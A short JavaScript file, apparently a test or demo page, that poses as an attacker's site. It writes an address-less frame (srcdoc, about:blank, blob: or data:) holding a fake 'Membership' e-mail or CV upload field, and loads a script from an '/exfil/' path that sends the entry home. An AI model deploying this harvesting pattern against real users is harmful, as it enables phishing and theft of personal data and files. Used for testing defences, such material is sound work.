// An attacker's frame that writes a frame of its own with no address of its own site: its
// content as srcdoc, an about:blank frame it fills, a blob: or a data: document (?kind=). The
// inner frame holds an e-mail field or, with ?field=file, a file input; frame-logger.js sends
// what is typed or chosen there home.
const params = new URLSearchParams(location.search);
const kind = params.get('kind');
const logger = `${location.origin}/exfil/frame-logger.js`;
const field = params.get('field') === 'file'
  ? '<label>Your CV <input type="file" name="cv"></label>'
  : '<label>Email <input type="email" name="email"></label>';
const body = `<p>Membership</p>${field} <button type="button">Confirm</button>`;
const doc = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Membership</title></head><body>${body}<script src="${logger}"></script></body></html>`;
const frame = document.createElement('iframe');
frame.title = 'Membership';
frame.width = '560';
frame.height = '140';
if (kind === 'srcdoc') frame.srcdoc = doc;
if (kind === 'blob') frame.src = URL.createObjectURL(new Blob([doc], { type: 'text/html' }));
if (kind === 'data') frame.src = `data:text/html;charset=utf-8,${encodeURIComponent(doc)}`;
document.body.append(frame);
if (kind === 'blank') {
  // The frame's initial about:blank document, written by this script.
  const inner = frame.contentDocument;
  inner.body.innerHTML = body;
  const script = inner.createElement('script');
  script.src = logger;
  inner.body.append(script);
}
